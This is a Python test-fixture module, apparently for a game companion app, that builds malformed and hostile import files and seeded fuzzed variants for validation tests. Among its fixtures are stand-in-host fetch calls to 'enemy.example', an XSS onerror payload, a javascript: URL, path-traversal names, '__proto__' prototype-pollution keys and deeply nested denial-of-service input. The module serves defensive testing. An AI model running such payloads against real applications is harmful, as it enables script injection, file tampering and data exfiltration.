"""Files of everything that an enemy made, kind by kind, and sound ones changed at random places from a seed."""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator
from typing import Any
from zlib import crc32

from companion.history.journals.lines import line_of

Whole = dict[str, Any]
"""What a file of everything holds."""

AT = "2026-11-20T19:00:00.000+00:00"
COVER = ["enemy-table", "realms", "", AT, 1, "digest"]
ENTRY = ["e1", AT, "", "phone", "{}"]
CODE = "open('/tmp/ran', 'w')\nimport js\njs.fetch('http://enemy.example/')\n"
AWAY = {"at": {"at": "http://enemy.example/tables/enemy-table", "key": "k"}, "waiting": [], "may": "plays"}
DEEP = 100_000


def whole(*games: bytes, boxes: Any = None, cards: Any = None) -> Whole:
    """A file of everything with these files of games."""
    return {
        "almanac": 1,
        "games": [base64.b64encode(game).decode() for game in games],
        "boxes": {} if boxes is None else boxes,
        "cards": {} if cards is None else cards,
    }


def told(text: str) -> bytes:
    """A line with the right sum, whatever stands in it."""
    content = text.encode()
    return b"%08x %s\n" % (crc32(content), content)


def first(**changed: Any) -> bytes:
    """The first line of an evening with one act, with what is ``changed`` in it."""
    return line_of({"game": COVER, "entries": [ENTRY]} | changed)


def cover(place: int, value: Any) -> bytes:
    """The same with another value in one place of the cover."""
    return first(game=[*COVER[:place], value, *COVER[place + 1 :]])


def entry(place: int, value: Any) -> bytes:
    """The same with another value in one place of its act."""
    return first(entries=[[*ENTRY[:place], value, *ENTRY[place + 1 :]]])


def boxes(change: Any, name: str = "realms-boxes") -> Whole:
    """A file of everything with one file of boxes that is this line."""
    return whole(boxes={name: base64.b64encode(line_of(change)).decode()})


def card(**changed: Any) -> Whole:
    """A file with one evening and its card, with what is ``changed`` in that."""
    told_of_it = {"title": "t", "who": "w", "turn": "u", "figures": [], "game": "g"}
    sound = {"of": "realms", "number": "1", "told": {"ru": told_of_it, "en": told_of_it}}
    return whole(first(), cards={COVER[0]: sound | changed})


def shown(**changed: Any) -> Whole:
    """The same with something ``changed`` in what the card tells."""
    told_of_it = {"title": "t", "who": "w", "turn": "u", "figures": [], "game": "g"} | changed
    return card(told={"ru": told_of_it, "en": told_of_it})


def files(name: str, content: str = CODE) -> Whole:
    """A box with one file of this name."""
    return boxes({"files": {name: content}})


LINES: dict[str, bytes] = {
    "a list": told("[]"),
    "no JSON": told("{"),
    "opened without end": told("[" * DEEP),
    "nested": told("[" * DEEP + "]" * DEEP),
    "an object nested": told('{"game":' + '{"a":' * DEEP + "1" + "}" * DEEP + "}"),
    "null": told("null"),
    "a text": told('"game"'),
    "an empty object": told("{}"),
    "cover a number": first(game=5),
    "cover a text": first(game="realms"),
    "cover nothing": first(game=None),
    "cover an object": first(game={"0": "enemy-table"}),
    "cover too short": first(game=COVER[:3]),
    "id a number": cover(0, 7),
    "id empty": cover(0, ""),
    "id of an object's own": cover(0, "__proto__"),
    "id of a function": cover(0, "constructor"),
    "id without end": cover(0, "x" * DEEP),
    "kind unknown": cover(1, "chess"),
    "kind a script": cover(1, "javascript:fetch('http://enemy.example/')//"),
    "kind a path": cover(1, "../../enemy"),
    "kind of a function": cover(1, "constructor"),
    "title a list": cover(2, ["<b>"]),
    "begun at no time": cover(3, "yesterday"),
    "begun before all": cover(3, "0001-01-01T00:00:00+14:00"),
    "rules a text": cover(4, "1"),
    "rules negative": cover(4, -1),
    "rules without end": cover(4, 10**400),
    "entries a number": first(entries=5),
    "entries numbers": first(entries=[5]),
    "entry too short": first(entries=[ENTRY[:2]]),
    "act a mapping": entry(4, {"do": "x"}),
    "act nested": entry(4, "[" * DEEP),
    "at no time": entry(1, "soon"),
    "at before all": entry(1, "0001-01-01T00:00:00+14:00"),
    "at after all": entry(1, "9999-12-31T23:59:59-14:00"),
    "at without a zone": entry(1, "2026-11-20T19:00:00"),
    "at no day": entry(1, "2026-02-31T19:00:00+00:00"),
    "at without end": entry(1, "2" * DEEP),
    "number a text": first() + line_of({"number": "x", "entries": [ENTRY]}),
    "number negative": first() + line_of({"number": -5, "entries": [ENTRY]}),
    "number without end": first() + line_of({"number": 10**15, "entries": [ENTRY]}),
    "number broken": first() + line_of({"number": 1.5, "entries": [ENTRY]}),
    "number yes": first() + line_of({"number": True, "entries": [ENTRY]}),
    "checkpoint too short": first(checkpoint=[1]),
    "checkpoint a number": first(checkpoint=1),
    "checkpoint of texts": first(checkpoint=["1", "{}", "1", "b"]),
    "title a number": first() + line_of({"title": 7}),
    "gone": first() + line_of({"gone": True}),
    "beside a number": first(aside=7),
    "two games in one": first() + line_of({"game": ["other-table", *COVER[1:]]}),
    "a wrong sum": b"00000000" + first()[8:],
    "no sum": b'{"game": 1}\n',
}
"""Whole files of a game, most of them one line, with something in them that no journal writes."""

LONGER: dict[str, bytes] = {
    "a cover with one field more": first(game=[*COVER, "of a newer edition"]),
    "an act with one field more": first(entries=[[*ENTRY, 5]]),
    "a checkpoint with one field more": first(checkpoint=[1, "{}", 1, "b", "", {}]),
    "another key": first(mood="good"),
}
"""What a newer edition may write: it opens."""

OTHERS: dict[str, Whole] = {
    "a server's address beside": whole(first(aside=AWAY)),
    "card without figures": shown(figures=None),
    "card with figures a text": shown(figures="figures"),
    "card without words": card(told=None),
    "card with a list of words": card(told=["ru"]),
    "card with moons without end": shown(figures=[{"label": "", "text": "", "moons": [1, 10**9]}]),
    "card with moons a text": shown(figures=[{"label": "", "text": "", "moons": "12"}]),
    "card with a title that is none": shown(title={"a": 1}),
    "card with markup": shown(title="<img src=http://enemy.example/ onerror=fetch('http://enemy.example/')>"),
    "card that is null": whole(first(), cards={COVER[0]: None}),
    "cards a list": whole(first(), cards=[1, 2]),
    "cards for all objects": json.loads(
        json.dumps(whole(first())).replace('"cards": {}', '"cards": {"__proto__": {}}')
    ),
    "a module of a library": files("/almanac/pydantic_core.py"),
    "a module beside": files("../almanac/companion/errors.py"),
    "a module of the page": files("/home/almanac/companion.py"),
    "our own data": files("/almanac/companion/_data/arkham/ancient_ones.csv", "id\nvandal\n"),
    "a box of another name": files("box.json"),
    "a box of another game": files("arkham-box.json", "{"),
    "a box that is code": files("realms-box.json"),
    "a box nested": files("realms-box.json", "[" * DEEP),
    "a box with half a letter": files("realms-box.json", "\ud800"),
    "a box a number": boxes({"files": {"realms-box.json": 7}}),
    "files a list": boxes({"files": ["realms-box.json"]}),
    "files a number": boxes({"files": 5}),
    "no files": boxes({"game": COVER}),
    "a box without an object": whole(boxes={"realms-boxes": base64.b64encode(told("[]")).decode()}),
    "a file of no box": boxes({"files": {"realms-box.json": "{}"}}, "../games/evil"),
    "a file called as all objects": boxes({"files": {}}, "__proto__"),
    "boxes a list": whole(boxes=[1]),
    "a box no letters": whole(boxes={"realms-boxes": 5}),
    "an evening no letters": whole() | {"games": [5, None, "%%%", ["W10="]]},
    "games an object": whole() | {"games": {}},
    "null": None,  # type: ignore[dict-item]
}
"""The other kinds: what stands beside the games, boxes, cards and the file itself."""

KINDS: dict[str, Whole] = {name: whole(content) for name, content in LINES.items()} | OTHERS


# ---------------------------------------------------------------- from a seed

ODD = (None, True, -1, 0, 2**53, 10**30, 1.5, "", "x", "\x00", "__proto__", "../a", "<b>", "9999-12-31T23:59:59-14:00",
       [], {}, [[]], {"at": "http://enemy.example/tables/x"}, "[" * 5000)  # fmt: skip


def changed(seed: int, sound: Whole) -> Whole:
    """A sound file of everything with one to three changes: of bytes, or of values under right sums."""
    chance, found = random.Random(seed), json.loads(json.dumps(sound))
    for _ in range(chance.randint(1, 3)):
        chance.choice((_bytes_changed, _line_changed, _line_changed, _outside_changed))(chance, found)
    return dict(found)


def changed_values(seed: int, text: str) -> str:
    """A JSON text with one to three of its values changed."""
    chance, content = random.Random(seed), json.loads(text)
    for _ in range(chance.randint(1, 3)):
        _value_changed(chance, content)
    return json.dumps(content)


def _bytes_changed(chance: random.Random, found: Whole) -> None:
    if place := _place_of_a_file(chance, found):
        files, name = place
        content = bytearray(base64.b64decode(files[name]))
        if content:
            at = chance.randrange(len(content))
            content[at : at + chance.choice((0, 1, 1, 40))] = chance.randbytes(chance.choice((0, 1, 1, 5)))
            files[name] = base64.b64encode(bytes(content)).decode()


def _line_changed(chance: random.Random, found: Whole) -> None:
    if place := _place_of_a_file(chance, found):
        files, name = place
        lines = base64.b64decode(files[name]).splitlines(keepends=True)
        if not lines:
            return
        at = chance.randrange(len(lines))
        try:
            content = json.loads(lines[at][9:])
        except ValueError:
            return
        _value_changed(chance, content)
        lines[at : at + 1] = [told(json.dumps(content))] * chance.choice((1, 1, 1, 2))
        files[name] = base64.b64encode(b"".join(lines)).decode()


def _outside_changed(chance: random.Random, found: Whole) -> None:
    _value_changed(chance, chance.choice([found, found["cards"], found["boxes"]]))


def _place_of_a_file(chance: random.Random, found: Whole) -> tuple[Any, Any] | None:
    """Where a file's letters stand, if there are any."""
    games, boxes = found["games"], found["boxes"]
    places: list[tuple[Any, Any]] = [(games, at) for at in range(len(games))] if isinstance(games, list) else []
    places += [(boxes, name) for name in boxes] if isinstance(boxes, dict) else []
    places = [(files, name) for files, name in places if _is_base64(files[name])]
    return chance.choice(places) if places else None


def _is_base64(text: Any) -> bool:
    try:
        return isinstance(text, str) and base64.b64encode(base64.b64decode(text)).decode() == text
    except ValueError:
        return False


def _value_changed(chance: random.Random, content: Any) -> None:
    places = list(_places(content))
    if places:
        inside, key = chance.choice(places)
        if chance.random() < 0.2:
            del inside[key]
        else:
            inside[key] = chance.choice(ODD)


def _places(content: Any) -> Iterator[tuple[Any, Any]]:
    keys = content if isinstance(content, dict) else range(len(content)) if isinstance(content, list) else ()
    for key in keys:
        yield content, key
        yield from _places(content[key])
